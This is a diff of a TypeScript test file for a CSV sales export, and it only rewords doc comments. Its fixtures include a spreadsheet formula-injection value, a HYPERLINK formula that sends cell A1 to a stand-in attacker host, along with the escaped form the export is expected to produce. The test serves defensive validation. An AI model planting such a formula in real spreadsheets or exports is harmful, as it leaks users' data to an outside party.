@@ -46,7 +46,7 @@ const TITLES = [
   ],
 ];
 
-/** Names as nobody has them, and how the file has them. */
+/** Hostile names, and their form in the file. */
 const HOSTILE: [name: string, written: string][] = [
   ['=HYPERLINK("http://mal.example/?"&A1;"clique")', `'=HYPERLINK("http://mal.example/?"&A1;"clique")`],
   ['+5511999999999', "'+5511999999999"],
@@ -60,7 +60,7 @@ const HOSTILE: [name: string, written: string][] = [
 let api: TestApi;
 let show: TestShow;
 let producer: TestPerson;
-/** The codes of the orders, by what became of them. */
+/** Codes of the orders, by status. */
 const codes: Record<string, string> = {};
 
 type Query = Record<string, string>;
@@ -83,7 +83,7 @@ async function exported(
 
 type Sale = Record<string, string>;
 
-/** What a CSV tells, row by row, each cell by its title. */
+/** Returns the rows of a CSV, each cell by its title. */
 async function sales(query: Query = {}): Promise<Sale[]> {
   const { status, bytes } = await exported(query);
   expect(status).toBe(200);
@@ -148,7 +148,7 @@ async function makeSales(): Promise<void> {
   await enterFirst(mixed.order.id);
 }
 
-/** The first ticket of an order enters. */
+/** Admits the first ticket of an order. */
 async function enterFirst(orderId: string): Promise<void> {
   const [ticket] = await api.database.query<{ id: string }>(
     'select id from tickets where order_id = $1 order by position limit 1',
